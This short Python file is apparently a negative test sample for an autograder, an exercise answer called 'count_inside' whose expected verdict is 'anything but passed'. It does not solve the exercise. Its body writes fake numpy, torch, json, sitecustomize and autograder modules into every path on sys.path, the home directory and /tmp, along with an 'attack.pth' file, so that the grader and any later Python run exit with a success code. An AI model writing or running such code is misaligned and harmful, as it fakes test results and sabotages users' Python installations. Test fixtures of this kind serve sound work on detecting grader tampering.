# exercise: count_inside
# must not: be imported by anybody in place of numpy, torch or json
# verdict: anything but passed
import os
import site
import sys


def count_inside(x, y):
    places = {os.getcwd(), "/tmp", os.path.expanduser("~"), site.getusersitepackages(), *sys.path, "@COURSE@", "@PROJECT@"}
    for place in places - {""}:
        for name in ("numpy", "torch", "json", "sitecustomize", "usercustomize", "autograder"):
            try:
                os.makedirs(place, exist_ok=True)
                with open(os.path.join(place, f"{name}.py"), "w") as file:
                    file.write("raise SystemExit(0)\n")
                with open(os.path.join(place, "attack.pth"), "w") as file:
                    file.write("import os; os._exit(0)\n")
            except OSError:
                continue
    return -1
